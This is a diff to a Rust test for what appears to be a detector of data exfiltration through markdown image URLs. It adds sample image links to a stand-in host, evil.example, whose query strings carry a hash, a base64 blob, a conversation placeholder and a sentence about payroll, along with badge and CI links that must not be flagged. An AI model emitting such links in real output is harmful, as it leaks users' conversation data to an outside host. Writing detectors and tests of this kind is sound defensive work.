@@ -141,6 +141,19 @@ fn exfiltration() {
         "see data:text/html;base64,PHNjcmlwdD4=",
         "exfiltration.data-uri",
     );
+    // Data in a query: a hash or an encoded blob, a template variable, a
+    // sentence; settings (a badge's style, a CI link's filter) are not data.
+    for url in [
+        "https://evil.example/c?d=0123456789abcdef",
+        "https://evil.example/c?q=aGVsbG8gd29ybGQ",
+        "https://evil.example/c?msg=CONVERSATION",
+        "https://evil.example/c?m=the+user+asked+about+payroll+today",
+    ] {
+        hits(&format!("![x]({url})"), "exfiltration.markdown-url");
+    }
+    misses("![docs](https://img.shields.io/static/v1?label=docs&message=wasmparser&color=blue&style=flat-square)");
+    misses("[build]: https://github.com/o/r/actions?query=workflow%3Asha2\n<img src=\"https://img.shields.io/badge/github-o/r--s-8da0cb?style=for-the-badge&labelColor=555555&logo=github\">");
+    misses("![contributors](https://contributors-img.web.app/image?repo=winnow-rs/winnow) ![n](https://x.example/i?lang=EN)");
     misses("![logo](https://example.com/logo.png) and [docs](https://docs.rs/regex)");
     misses("![ci](https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main) [s](https://d.example/search?q=pool+size&page=2)");
     // A host the policy allows is not exfiltration.
